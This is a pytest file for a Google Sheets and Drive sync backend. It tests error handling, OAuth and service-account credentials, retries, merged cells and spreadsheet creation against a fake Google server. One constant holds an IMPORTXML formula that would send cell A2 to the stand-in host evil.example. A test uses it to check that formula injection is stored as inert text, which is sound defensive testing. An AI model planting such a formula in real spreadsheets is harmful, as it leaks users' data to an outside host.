"""The client, auth and creation of the Google backend, through the real clients on the fake."""
from __future__ import annotations

import json
import logging
import time

import pytest

from sheets_schema import ru
from sheets_schema.tables import ALL_TABLES, LISTS_TABLE, LOG, MENTEES, MENTORS
from sheets_schema.dropdowns import list_range
from sync.google import (GoogleApiError, RetriesExhausted, create_google_workspace, open_google_workspace)
from sync.google.auth import SCOPES, load_credentials
from sync.google.client import client_from_settings
from sheets_schema.grid import Merge
from sync.google.workspace import grid_with_merges, merges_of, write_ranges
from sync.workspace import CellWrite, WorkspaceError
from tests.fake_google.clients import service_account_info
from tests.test_google_support import (COORDINATOR, fast_client, google_settings, new_folder, sample_rows,
                                       seeded_workspace, sheets_requests)

ROBOT = "robot@nastavnik-test.iam.gserviceaccount.com"
IMPORTXML = '=IMPORTXML("https://evil.example/?leak="&A2; "//a")'


# --- Google's error envelope ----------------------------------------------------------------------

def test_a_malformed_request_gets_googles_400_envelope_parsed(fake_google, tmp_path):
    google = seeded_workspace(fake_google, tmp_path, {})
    fake_google.clear_requests()

    with pytest.raises(GoogleApiError) as info:
        google.client.values_batch_update(google.spreadsheet_id, [{"range": "A1", "values": [["x"]]}],
                                          value_input_option="TYPED")

    error = info.value
    # Sheets' envelope has no errors[] and so no reason (gspread's recorded real traffic)
    assert (error.code, error.status, error.reason) == (400, "INVALID_ARGUMENT", "")
    assert error.message == ("Invalid value at 'value_input_option' "
                             "(type.googleapis.com/google.apps.sheets.v4.ValueInputOption), \"TYPED\"")
    assert error.operation == "spreadsheets.values.batchUpdate"
    assert len(sheets_requests(fake_google)) == 1  # a 400 is not retried


def test_a_malformed_body_is_reported_with_the_field(fake_google, tmp_path):
    google = seeded_workspace(fake_google, tmp_path, {})
    with pytest.raises(GoogleApiError) as info:
        google.client.spreadsheets_batch_update(google.spreadsheet_id, [{"addSheet": {"properties": {"titel": "x"}}}])
    assert info.value.code == 400
    assert 'Unknown name "titel"' in info.value.message


def test_drive_errors_come_through_the_same_exception(fake_google, tmp_path):
    client = fast_client(google_settings(fake_google, tmp_path))
    with pytest.raises(GoogleApiError) as info:
        client.files_get("no-such-file")
    assert (info.value.code, info.value.status, info.value.reason, info.value.message) == (
        404, "NOT_FOUND", "notFound", "File not found: no-such-file.")


def test_an_unknown_spreadsheet_is_a_workspace_error_saying_what_to_check(fake_google, tmp_path):
    settings = google_settings(fake_google, tmp_path, spreadsheet_id="1NoSuchSpreadsheet")
    workspace = open_google_workspace(settings, client=fast_client(settings))
    with pytest.raises(WorkspaceError) as info:
        workspace.read_grids([MENTEES.title])
    assert str(info.value).startswith(
        "Таблица https://docs.google.com/spreadsheets/d/1NoSuchSpreadsheet не найдена (Google: 404 NOT_FOUND")
    assert "[google] spreadsheet_id" in str(info.value)


def test_a_spreadsheet_not_shared_is_a_permission_error(fake_google, tmp_path):
    google = seeded_workspace(fake_google, tmp_path, {})
    stranger = tmp_path / "stranger"
    stranger.mkdir()
    settings = google_settings(fake_google, stranger, spreadsheet_id=google.spreadsheet_id)
    settings["token_cache"] = str(_token_for(stranger / "t.json", "stranger@school26.example"))
    with pytest.raises(WorkspaceError) as info:
        open_google_workspace(settings, client=fast_client(settings)).read_grids([MENTEES.title])
    assert str(info.value).startswith("Нет доступа к таблице")
    assert "403 PERMISSION_DENIED" in str(info.value)


def _token_for(path, email):
    from tests.test_google_support import write_token_cache
    return write_token_cache(path, email)


def test_no_spreadsheet_configured_fails_before_any_login(fake_google, tmp_path):
    settings = google_settings(fake_google, tmp_path, token_cache=str(tmp_path / "absent.json"))
    with pytest.raises(WorkspaceError) as info:
        open_google_workspace(settings)
    assert str(info.value) == ru.GOOGLE["no_spreadsheet"]
    assert fake_google.requests() == []


# --- RAW values, grouped writes -------------------------------------------------------------------

def test_raw_writes_keep_a_formula_typed_into_a_form_as_text(fake_google, tmp_path):
    google = seeded_workspace(fake_google, tmp_path, sample_rows(10))
    status_col = MENTEES.headers.index(ru.HEADERS["message"])

    google.write_cells([CellWrite(MENTEES.title, 3, status_col, IMPORTXML)])

    grid = google.read_grids([MENTEES.title])[MENTEES.title]
    assert grid[2][status_col] == IMPORTXML  # FORMATTED_VALUE: a live formula would show its result
    request = [e for e in sheets_requests(fake_google) if e["method_id"].endswith("values.batchUpdate")]
    assert len(request) == 1


def test_adjacent_cells_of_a_row_are_sent_as_one_range():
    writes = [CellWrite("Наставляемые", 5, 19, "OK"), CellWrite("Наставляемые", 5, 20, ""),
              CellWrite("Наставляемые", 7, 19, "Ошибка"), CellWrite("Наставляемые", 7, 21, "x"),
              CellWrite("Журнал", 2, 0, "a"), CellWrite("Журнал", 2, 1, "b"), CellWrite("Журнал", 2, 2, "c")]
    assert [(d["range"], d["values"]) for d in write_ranges(writes)] == [
        ("'Журнал'!A2:C2", [["a", "b", "c"]]),
        ("'Наставляемые'!T5:U5", [["OK", ""]]),
        ("'Наставляемые'!T7", [["Ошибка"]]),
        ("'Наставляемые'!V7", [["x"]]),
    ]


def test_a_title_with_a_quote_is_escaped():
    assert write_ranges([CellWrite("Пары 'черновик'", 1, 0, "x")])[0]["range"] == "'Пары ''черновик'''!A1"


def test_a_write_past_the_last_row_grows_the_tab(fake_google, tmp_path):
    google = seeded_workspace(fake_google, tmp_path, {})  # seeded tabs have 1,000 rows
    google.write_cells([CellWrite(ru.TABS["log"], 1001, 0, "27.11.2026 10:00:00")])
    grid = google.read_grids([ru.TABS["log"]])[ru.TABS["log"]]
    assert len(grid) == 1001 and grid[1000][0] == "27.11.2026 10:00:00"
    calls = [e["method_id"].split(".", 1)[1] for e in sheets_requests(fake_google)]
    assert calls[:4] == ["spreadsheets.values.batchUpdate", "spreadsheets.get", "spreadsheets.batchUpdate",
                         "spreadsheets.values.batchUpdate"]


def test_ragged_rows_are_padded(fake_google, tmp_path):
    google = seeded_workspace(fake_google, tmp_path, sample_rows(6))
    grid = google.read_grids([MENTORS.title])[MENTORS.title]
    assert len({len(row) for row in grid}) == 1
    assert grid[0] == MENTORS.headers


MERGE_CASES = [
    # GridRange as spreadsheets.get gives it (an index at 0 omitted)  →  Merge (rows 1-based, inclusive)
    ("subject_rows_2_to_4", {"startRowIndex": 1, "endRowIndex": 4, "startColumnIndex": 3, "endColumnIndex": 4},
     [Merge(2, 4, 3, 3)]),
    ("title_across_row_1", {"endRowIndex": 1, "endColumnIndex": 17}, [Merge(1, 1, 0, 16)]),
    ("column_a_rows_1_to_2", {"endRowIndex": 2, "startColumnIndex": 0, "endColumnIndex": 1}, [Merge(1, 2, 0, 0)]),
    ("unbounded_left_out", {"startRowIndex": 1, "startColumnIndex": 3, "endColumnIndex": 4}, []),
]


@pytest.mark.parametrize("name, grid_range, expected", MERGE_CASES, ids=[c[0] for c in MERGE_CASES])
def test_merges_of_a_tab_from_grid_ranges(name, grid_range, expected):
    assert merges_of({"properties": {"title": "Наставляемые"}, "merges": [dict(grid_range, sheetId=7)]}) == expected


def test_a_grid_covers_its_merges_as_the_local_reader_does():
    # «Предмет» merged over rows 2–4: values.batchGet ends at row 2, the merge's first cell
    grid = grid_with_merges([["ФИО", "Предмет"], ["Петрова", "физика"]], [Merge(2, 4, 1, 1), Merge(1, 1, 0, 2)])
    assert grid == [["ФИО", "Предмет", ""], ["Петрова", "физика", ""], ["", "", ""], ["", "", ""]]
    assert grid.merges == (Merge(2, 4, 1, 1), Merge(1, 1, 0, 2))
    assert grid_with_merges([], []) == [] and grid_with_merges([], []).merges == ()


# --- timeouts -------------------------------------------------------------------------------------

def test_every_request_has_a_timeout_and_a_slow_answer_is_retried_then_given_up(fake_google, tmp_path, caplog):
    google = seeded_workspace(fake_google, tmp_path, {}, timeout=0.3, max_retries=2)
    fake_google.set_faults(delay_rate=1.0, delay_seconds=0.6)
    with caplog.at_level(logging.WARNING, logger="nastavnik.google"), pytest.raises(RetriesExhausted) as info:
        google.read_grids([MENTEES.title])
    assert info.value.attempts == 3
    assert str(info.value).startswith("Google не выполнил запрос spreadsheets.get: 3 попыток")  # a read starts with the titles and merges
    assert "нет ответа: ReadTimeout" in str(info.value)
    assert len([r for r in caplog.records if r.levelno == logging.WARNING]) == 2
    # the fake still answers the three slow requests after the client gave up: let it finish, so
    # that their log entries do not land in the next test's log
    deadline = time.monotonic() + 5
    while len(sheets_requests(fake_google)) < 3 and time.monotonic() < deadline:
        time.sleep(0.05)
    assert len(sheets_requests(fake_google)) == 3


# --- credentials ----------------------------------------------------------------------------------

def test_oauth_token_is_refreshed_at_the_endpoint_and_cached(fake_google, tmp_path):
    settings = google_settings(fake_google, tmp_path)
    creds = load_credentials(settings, interactive=False)
    assert creds.valid and creds.token == fake_google.token_for(COORDINATOR, SCOPES)
    assert [e["method_id"] for e in fake_google.requests()] == ["oauth.token"]
    cached = json.loads((tmp_path / "token.json").read_text(encoding="utf-8"))
    assert cached["token"] == creds.token
    assert (tmp_path / "token.json").stat().st_mode & 0o077 == 0
    assert tuple(creds.scopes) == SCOPES


def test_oauth_without_a_cached_token_never_waits_for_a_browser_in_cron(fake_google, tmp_path):
    settings = google_settings(fake_google, tmp_path, token_cache=str(tmp_path / "none.json"))
    with pytest.raises(WorkspaceError) as info:
        load_credentials(settings, interactive=False)
    assert str(info.value) == ru.GOOGLE["login_needed"].format(path=tmp_path / "none.json")


@pytest.mark.parametrize("subject, identity", [("", ROBOT), ("metodist@school26.example", "metodist@school26.example")])
def test_service_account_key_with_optional_delegation(fake_google, tmp_path, subject, identity):
    key = tmp_path / "key.json"
    info = service_account_info("https://oauth2.googleapis.com", ROBOT)  # the key as Google issues it
    key.write_text(json.dumps(info), encoding="utf-8")
    settings = google_settings(fake_google, tmp_path, auth="service_account", credentials=str(key), subject=subject)
    client = client_from_settings(settings)

    with pytest.raises(GoogleApiError):
        client.files_get("whatever")

    log = fake_google.requests()
    assert [e["method_id"] for e in log] == ["oauth.token", "drive.files.get"]
    assert log[0]["identity"] == identity and log[1]["identity"] == identity


def test_a_service_account_cannot_create_the_spreadsheet_in_my_drive(fake_google, tmp_path):
    coordinator = fast_client(google_settings(fake_google, tmp_path))
    folder = new_folder(coordinator)
    fake_google.share(folder, ROBOT, "writer")
    key = tmp_path / "key.json"
    key.write_text(json.dumps(service_account_info("https://oauth2.googleapis.com", ROBOT)), encoding="utf-8")
    settings = google_settings(fake_google, tmp_path, auth="service_account", credentials=str(key), folder_id=folder)

    with pytest.raises(WorkspaceError) as info:
        create_google_workspace(settings, {})
    assert str(info.value) == ru.GOOGLE["cannot_create"].format(
        detail=ru.GOOGLE["service_account_storage"].format(folder=folder),
        fix=ru.DOCTOR["google_owner_fix"].format(who=ROBOT))
    assert [e for e in fake_google.requests() if e["method_id"].endswith(("files.create", "spreadsheets.create"))
            and e["identity"] == ROBOT] == []


def test_a_missing_key_file_is_named(tmp_path):
    settings = {"auth": "service_account", "credentials": str(tmp_path / "key.json"), "endpoint": ""}
    with pytest.raises(WorkspaceError) as info:
        load_credentials(settings)
    assert str(info.value) == ru.GOOGLE["file_missing"].format(path=tmp_path / "key.json", key="credentials")


# --- creating the spreadsheet ---------------------------------------------------------------------

@pytest.fixture
def created(fake_google, tmp_path):
    settings = google_settings(fake_google, tmp_path)
    client = fast_client(settings)
    settings["folder_id"] = new_folder(client)
    fake_google.clear_requests()
    workspace = create_google_workspace(settings, sample_rows(20), client=client)
    return settings, client, workspace


def test_create_makes_the_spreadsheet_in_the_folder_with_few_requests(fake_google, created):
    settings, client, workspace = created
    assert workspace.created
    calls = [e["method_id"] for e in fake_google.requests() if e["api"] != "oauth"]
    # find in the folder; check this identity may own files there (doctor's line); create; fill
    assert calls == ["drive.files.list", "drive.about.get", "drive.files.get", "drive.files.create",
                     "sheets.spreadsheets.get", "sheets.spreadsheets.batchUpdate",
                     "sheets.spreadsheets.values.batchUpdate"]
    file = client.files_get(workspace.spreadsheet_id, fields="name,mimeType,parents,appProperties")
    assert file == {"name": ru.GOOGLE["spreadsheet_name"], "mimeType": "application/vnd.google-apps.spreadsheet",
                    "parents": [settings["folder_id"]], "appProperties": {"nastavnik": "workspace"}}


def test_create_sets_tabs_frozen_headers_dropdowns_and_protection(created):
    _, client, workspace = created
    meta = client.spreadsheets_get(workspace.spreadsheet_id, fields=(
        "properties.locale,sheets(properties,dataValidation,protectedRanges)"))
    assert meta.get("properties", {}).get("locale") == "ru_RU"
    sheets = {s["properties"]["title"]: s for s in meta["sheets"]}
    assert list(sheets) == [t.title for t in ALL_TABLES]
    assert all(s["properties"]["gridProperties"]["frozenRowCount"] == 1 for s in sheets.values())
    assert [t for t, s in sheets.items() if s["properties"].get("hidden")] == [
        t.title for t in ALL_TABLES if t.hidden]
    assert LISTS_TABLE.hidden

    mentees = sheets[MENTEES.title]
    protected = sorted((p["range"].get("startColumnIndex"), p["warningOnly"]) for p in mentees["protectedRanges"])
    status, message = MENTEES.headers.index("Статус"), MENTEES.headers.index("Сообщение")
    assert protected == [(status, True), (message, True)]
    log = sheets[ru.TABS["log"]]["protectedRanges"]
    assert len(log) == 1 and log[0]["warningOnly"] and "startColumnIndex" not in log[0]["range"]

    grid = workspace.read_grids([MENTEES.title, LISTS_TABLE.title])
    assert grid[MENTEES.title][0] == MENTEES.headers and len(grid[MENTEES.title]) == 1 + len(sample_rows(20)["mentees"])
    assert grid[LISTS_TABLE.title][1][1] == ru.LISTS["subjects"][0]


def test_dropdowns_reference_the_lists_tab(created):
    _, client, workspace = created
    answer = client.spreadsheets_get(workspace.spreadsheet_id, ranges=[f"'{MENTEES.title}'!A2:Z2"],
                                     include_grid_data=True, fields="sheets.data.rowData.values.dataValidation")
    cells = answer["sheets"][0]["data"][0]["rowData"][0]["values"]
    subject = cells[MENTEES.headers.index(ru.HEADERS["subject"])]["dataValidation"]
    levels = cells[MENTEES.headers.index(ru.HEADERS["levels"])]["dataValidation"]
    assert subject["condition"] == {"type": "ONE_OF_RANGE",
                                    "values": [{"userEnteredValue": "=" + list_range("subjects")}]}
    assert list_range("subjects") == f"'Списки'!$B$2:$B${len(ru.LISTS['subjects']) + 1}"
    assert subject["strict"] is True and levels["strict"] is False
    assert "dataValidation" not in cells[MENTEES.headers.index(ru.HEADERS["full_name"])]


def test_running_create_again_reuses_the_spreadsheet(fake_google, created):
    settings, client, workspace = created
    fake_google.clear_requests()

    again = create_google_workspace(settings, sample_rows(20), client=client)

    assert again.spreadsheet_id == workspace.spreadsheet_id and not again.created
    assert [e["method_id"] for e in fake_google.requests()] == ["drive.files.list", "sheets.spreadsheets.get"]


def test_create_with_a_spreadsheet_id_adds_only_the_missing_tabs(fake_google, created):
    settings, client, workspace = created
    log_id = next(p["sheetId"] for p in workspace.sheet_properties() if p["title"] == ru.TABS["log"])
    client.spreadsheets_batch_update(workspace.spreadsheet_id, [{"deleteSheet": {"sheetId": log_id}}])
    before = workspace.read_grids([MENTEES.title])[MENTEES.title]
    settings = dict(settings, spreadsheet_id=workspace.spreadsheet_id)

    again = create_google_workspace(settings, {}, client=client)

    grids = again.read_grids([MENTEES.title, ru.TABS["log"]])
    assert grids[MENTEES.title] == before
    assert grids[ru.TABS["log"]] == [LOG.headers]


def test_create_completes_under_faults_with_drive_and_sheets_calls_retried(fake_google, tmp_path, caplog):
    settings = google_settings(fake_google, tmp_path)
    sleeps: list[float] = []
    client = fast_client(settings, sleeps)
    settings["folder_id"] = new_folder(client)
    fake_google.set_faults(rate=0.3, statuses=[429, 500, 503], seed=2)
    fake_google.clear_requests()

    with caplog.at_level(logging.WARNING, logger="nastavnik.google"):
        workspace = create_google_workspace(settings, sample_rows(10), client=client)

    faults = [e for e in fake_google.requests() if e["fault"] == "error"]
    retried = {r.getMessage().split(":")[0] for r in caplog.records if r.levelno == logging.WARNING}
    assert len(faults) == len(sleeps) > 0
    assert any("drive." in m for m in retried) and any("spreadsheets." in m for m in retried)
    fake_google.clear_faults()
    assert [p["title"] for p in workspace.sheet_properties()] == [t.title for t in ALL_TABLES]


def test_the_same_columns_of_consecutive_rows_are_sent_as_one_block():
    status = [CellWrite("Наставники", row, 19, f"s{row}") for row in range(2, 6)]
    message = [CellWrite("Наставники", row, 20, f"m{row}") for row in range(2, 6)]
    gap = [CellWrite("Наставники", 8, 19, "s8"), CellWrite("Наставники", 8, 20, "m8")]  # row 7 not written
    narrower = [CellWrite("Наставники", 9, 19, "s9")]  # only one of the two columns
    assert [(d["range"], d["values"]) for d in write_ranges(status + message + gap + narrower)] == [
        ("'Наставники'!T2:U5", [["s2", "m2"], ["s3", "m3"], ["s4", "m4"], ["s5", "m5"]]),
        ("'Наставники'!T8:U8", [["s8", "m8"]]),
        ("'Наставники'!T9", [["s9"]]),
    ]
